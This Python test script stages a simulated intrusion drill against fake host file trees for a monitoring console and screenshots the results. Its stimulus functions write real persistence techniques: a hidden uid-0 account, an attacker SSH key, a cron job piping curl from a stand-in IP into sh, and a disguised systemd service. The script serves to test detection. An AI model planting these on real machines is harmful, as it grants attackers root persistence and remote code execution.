"""Draws a drill's pages: `python -m tests.collector.console.drill_pictures docs/images [FOLDER-FOR-ALL-PAGES]`.

The hosts are trees that the real agent reads; what is done to them is done to their files.
"""

from __future__ import annotations

import shutil
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path

from playwright.sync_api import sync_playwright

from rongdun_collector.assessment.ruleset import load_ruleset
from rongdun_contract.documents import Survey
from rongdun_contract.wire import Answer
from tests.collector.console.demo_fleet import (
    Machine,
    bring_in_register,
    enrol_machine,
    make_machines,
    put,
)
from tests.collector.console.pictures import draw
from tests.collector.drill.conftest import opened
from tests.collector.drill.scene import Scene
from tests.collector.drill.watching import Watcher
from tests.collector.serving import Clock, Collector, serving

ROOT = Path(__file__).parents[3]
HOSTS = 18
LOOK_S = 60
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIO2J3l5oT0mUq4cVbYbV0gqY1cV1m7Cw0cX3Wn3y7n2T red@team\n"


@dataclass
class TreeWatcher(Watcher):
    """A host that watches its tree."""

    machine: Machine = field(kw_only=True)

    @property
    def tree(self) -> Path:
        """Return where its files are."""
        return self.machine.tree

    def see(self, *changes: Survey, at: datetime | None = None) -> Answer:
        """Read the tree and report what it is now."""
        assert not changes
        self.survey = self.machine.read()
        self.agent.sequence += 1
        self.last = self.agent.message(self.survey, at or self.clock(), **self._drill())
        return self._told(self._delivered())


def main(images: Path, everything: Path | None) -> None:
    """Play an hour of a drill, and draw it."""
    folder = Path(tempfile.mkdtemp(prefix="rongdun-drill-"))
    rules = load_ruleset((ROOT / "rules/linux-baseline",), ROOT / "rules/controls/gbt22239-2019.yaml")
    pack = ROOT / "rules/drill-host"
    try:
        machines = make_machines(folder / "trees", HOSTS)
        with (
            serving(f"sqlite:///{folder / 'drill.sqlite'}", rules, Clock(), folder, drill_packs=(pack,)) as collector,
            sync_playwright() as driver,
        ):
            scene = hour(collector, machines)
            chromium = driver.chromium.launch(executable_path=shutil.which("chromium"), args=["--no-sandbox"])
            found = next(one for one in scene.objects().values() if one["disposed_at"] is not None)
            draw(chromium, collector, scene.page, images / "console-drill.png")
            pages = {"": "overview", "/hosts": "hosts", "/desk": "desk", f"/objects/{found['id']}": "object"}
            for path, name in pages.items() if everything else ():
                draw(chromium, collector, f"{scene.page}{path}", everything / f"drill-{name}.png")
            chromium.close()
    finally:
        shutil.rmtree(folder)


def hour(collector: Collector, machines: list[Machine]) -> Scene:
    """All hosts begin; some are broken into, and some of their units answer faster than others."""
    bring_in_register(collector)
    for number, machine in enumerate(machines):
        enrol_machine(collector, machine, machine_id=f"{number + 0xD811:032x}")
    units = sorted({str(one["unit"]["id"]) for one in collector.get("/v1/hosts")["hosts"] if one["unit"]})
    drill = opened(collector, units=units, name="2026 年首次攻防演练", pack="drill-host", period_s=LOOK_S)
    watchers = [TreeWatcher(machine.agent, collector.clock, machine=machine) for machine in machines]
    scene = Scene(collector, drill, watchers[0], watchers[0], watchers[0], watchers[0])
    for one in watchers[:-1]:
        one.begin()
    attack(scene, watchers)
    scene.looks(12, *watchers[:-3])
    scene.settle()
    return scene


def attack(scene: Scene, watchers: list[TreeWatcher]) -> None:
    """Break in at eight places; each unit answers in its own time, and one thing is seen by nobody."""
    stimuli: tuple[tuple[int, Callable[[Path], None]], ...] = (
        (0, administrator),
        (4, key),
        (7, cron),
        (9, unit),
        (11, administrator),
        (13, key),
        (14, cron),
        (16, unit),
    )
    ghost = {"signal": "new-uid-0-account", "key": "ghost", "t0": scene.collector.clock().isoformat()}
    for place, done in stimuli:
        spend(scene, watchers, LOOK_S)
        if place == 9:
            answer = scene.collector.client.post(
                f"/v1/drills/{scene.drill}/stimuli", json=ghost | {"host": watchers[place].host}
            )
            assert answer.is_success, answer.text
        done(watchers[place].tree)
        watchers[place].see()
        scene.settle()
        if place in {0, 7, 11}:
            take(scene, watchers[place].host)
    for place, done in (stimuli[0], stimuli[4], stimuli[1]):
        spend(scene, watchers, 5 * LOOK_S)
        take(scene, watchers[place].host)
        undo(watchers[place].tree, done)
        watchers[place].see()
    take(scene, watchers[14].host)
    spend(scene, watchers, 55 * LOOK_S)


def take(scene: Scene, host: str) -> None:
    """Take what was found on a host in hand, half a minute after it was found or later."""
    scene.collector.clock.forward(seconds=31)
    for one in scene.objects().values():
        if one["host"] == host and one["acknowledged_at"] is None:
            assert scene.post("acknowledged", found=one["id"]).is_redirect


def spend(scene: Scene, watchers: list[TreeWatcher], seconds: int) -> None:
    """Let time pass, while all that watch look again."""
    for _ in range(seconds // LOOK_S):
        scene.looks(LOOK_S, *watchers[:-1])
    scene.settle()


def administrator(tree: Path) -> None:
    """Make a second root."""
    with (tree / "etc/passwd").open("a") as passwd, (tree / "etc/shadow").open("a") as shadow:
        passwd.write("sysop:x:0:0::/root:/bin/bash\n")
        shadow.write("sysop:$6$ab$cdefghijklmnopqrstuv.:20500:0:90:7:::\n")


def key(tree: Path) -> None:
    """Let a key of the attackers in as root."""
    put(tree, "/root/.ssh/authorized_keys", KEY, 0o600)


def cron(tree: Path) -> None:
    """Fetch and run something every five minutes."""
    put(tree, "/etc/cron.d/sysstat-", "*/5 * * * * root curl -s http://198.51.100.7/x | sh\n")


def unit(tree: Path) -> None:
    """Start something at boot."""
    text = "[Unit]\nDescription=Update\n[Service]\nExecStart=/var/tmp/.u\n[Install]\nWantedBy=multi-user.target\n"
    put(tree, "/etc/systemd/system/dbus-update.service", text)


def undo(tree: Path, done: Callable[[Path], None]) -> None:
    """Take back what was done to a tree."""
    if done is key:
        (tree / "root/.ssh/authorized_keys").unlink()
    for name in ("passwd", "shadow") if done is administrator else ():
        path = tree / "etc" / name
        path.write_text("".join(line for line in path.read_text().splitlines(keepends=True) if "sysop" not in line))


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]) if len(sys.argv) > 2 else None)
